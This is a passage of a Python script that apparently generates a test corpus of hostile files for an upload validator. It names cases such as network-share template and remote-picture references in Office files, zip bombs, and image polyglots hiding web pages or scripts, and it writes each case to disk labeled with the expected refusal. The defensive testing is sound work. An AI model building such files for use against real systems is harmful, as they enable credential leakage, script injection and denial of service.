    Case(docx_network_share_template, "external", "a.docx"),
    Case(docx_remote_picture, "external", "a.docx"),
    Case(xlsx_workbook_link_on_network_share, "external", "a.xlsx"),
    Case(docx_hyperlink_to_network_share, "link", "a.docx"),
    Case(docx_duplicate_part_names, "zip", "a.docx"),
    Case(docx_zip_bomb, "bomb", "a.docx"),
    Case(docx_too_many_parts, "bomb", "a.docx"),
    Case(pptx_presentation, "type", "a.pptx"),
    # images refused
    Case(jpeg_then_web_page, "polyglot", "a.jpg"),
    Case(jpeg_then_javascript_url, "polyglot", "a.jpg"),
    Case(jpeg_then_utf16_script, "polyglot", "a.jpg"),
    Case(jpeg_then_zip, "polyglot", "a.jpg"),
    Case(jpeg_unknown_trailer, "polyglot", "a.jpg"),
    Case(jpeg_motion_photo_with_script, "polyglot", "a.jpg"),
    Case(jpeg_comment_with_script, "polyglot", "a.jpg"),
    Case(png_then_web_page, "polyglot", "a.png"),
    Case(png_then_javascript_url, "polyglot", "a.png"),
    Case(png_zip_in_private_chunk, "polyglot", "a.png"),
    Case(png_utf16_script_in_text_chunk, "polyglot", "a.png"),
    Case(png_7740_square, "pixels", "a.png"),
    Case(png_over_250_megapixels, "pixels", "a.png"),
    Case(jpeg_262_megapixels, "pixels", "a.jpg"),
    Case(jpeg_progressive_24_megapixels, "pixels", "a.jpg"),
    Case(jpeg_truncated, "image", "a.jpg"),
    Case(png_bad_checksum, "image", "a.png"),
    Case(utf16_page_named_as_image, "type", "a.jpg"),
    Case(svg_named_as_image, "type", "a.png"),
]


@functools.cache
def corpus_bytes(name: str) -> bytes:
    """A case's bytes, made once per process."""
    return next(case for case in CASES if case.name == name).make()


def main(directory: str) -> None:
    target = Path(directory)
    target.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        suffix = case.filename.rsplit(".", 1)[-1]
        outcome = case.refusal or "accepted"
        (target / f"{case.name}.{outcome}.{suffix}").write_bytes(corpus_bytes(case.name))


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "corpus")
